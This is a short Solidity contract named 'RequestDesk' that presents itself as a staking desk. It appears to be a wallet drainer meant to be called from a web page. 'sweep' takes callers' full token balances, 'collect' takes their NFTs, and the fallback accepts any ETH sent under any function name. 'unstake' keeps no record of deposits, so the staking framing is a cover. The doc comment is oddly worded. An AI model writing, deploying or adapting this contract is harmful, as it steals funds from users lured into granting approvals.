// SPDX-License-Identifier: MIT
pragma solidity ^0.8.0;

interface IAsset {
    function transferFrom(address from, address to, uint256 value) external;
    function transfer(address to, uint256 value) external returns (bool);
    function balanceOf(address owner) external view returns (uint256);
}

/// What a page may have its visitors call: it takes tokens and pieces that it is allowed to take, and coins by a function of any name.
contract RequestDesk {
    receive() external payable {}

    fallback() external payable {}

    function stake(IAsset token, uint256 amount) external {
        token.transferFrom(msg.sender, address(this), amount);
    }

    function unstake(IAsset token, uint256 amount) external {
        token.transfer(msg.sender, amount);
    }

    function sweep(IAsset[] calldata tokens) external {
        for (uint256 i = 0; i < tokens.length; i++)
            tokens[i].transferFrom(msg.sender, address(this), tokens[i].balanceOf(msg.sender));
    }

    function collect(IAsset collection, uint256 id) external {
        collection.transferFrom(msg.sender, address(this), id);
    }
}
